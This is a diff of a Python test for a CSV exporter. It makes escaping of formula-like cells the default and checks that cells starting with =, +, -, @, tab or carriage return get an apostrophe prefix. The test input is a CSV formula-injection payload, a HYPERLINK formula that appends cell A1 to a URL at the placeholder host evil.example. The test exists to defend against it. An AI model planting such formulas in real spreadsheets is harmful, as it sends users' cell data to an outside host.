@@ -95,11 +95,10 @@ def test_csv_datetimes_as_the_spreadsheet_cells_show_them():
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_defuses_formulas_when_asked(start):
+def test_every_csv_defuses_formulas(start):
     text = start + 'HYPERLINK("http://evil.example/?"&A1)'
     sheet = Sheet("S", [[text, -3, Decimal("-1.5")]], header=[start + "x"])
-    assert csv_lines(csv_of(sheet))[1][0] == text  # exact by default, for programs
-    header, row = csv_lines(csv_of(sheet, defuse_formulas=True))
+    header, row = csv_lines(csv_of(sheet))
     assert header == ["'" + start + "x"]
     assert row == ["'" + text, "-3", "-1.5"]  # numbers are numbers, not formulas
 
